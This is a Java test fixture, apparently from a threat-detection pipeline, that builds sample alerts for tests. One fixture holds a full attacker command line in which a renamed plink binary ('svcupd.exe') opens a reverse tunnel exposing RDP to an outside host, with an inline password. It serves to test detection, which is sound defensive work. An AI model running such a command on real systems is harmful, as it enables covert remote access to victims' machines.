package dev.backflow.alerts;

import dev.backflow.cases.Alert;
import dev.backflow.cases.CaseFold;
import dev.backflow.cases.SightingFixtures;
import dev.backflow.commandline.RemoteForward;
import dev.backflow.triage.Detections;
import java.util.List;
import java.util.Set;

/** Alerts for tests, made as the pipeline makes them. */
final class AlertFixtures {
  private AlertFixtures() {}

  static Detections rdpByRenamedPlink() {
    return Detections.forward()
        .plink()
        .renamed("C:\\ProgramData\\svcupd.exe")
        .host("host-7", "dc01.example.com")
        .forwards(RemoteForward.tcp("0.0.0.0", 1251, "127.0.0.1", 3389))
        .to("forward", "203.0.113.7", 443)
        .line(
            "C:\\ProgramData\\svcupd.exe -P 443 -l forward -pw [REDACTED] -R 0.0.0.0:1251:127.0.0.1:3389 203.0.113.7")
        .inlinePassword();
  }

  static Alert alert(Detections detection) {
    return new CaseFold(CaseFold.WINDOW)
        .apply(null, List.of(SightingFixtures.sighting(detection, (t, s) -> Set.of("host-9"))))
        .alerts()
        .get(0);
  }
}
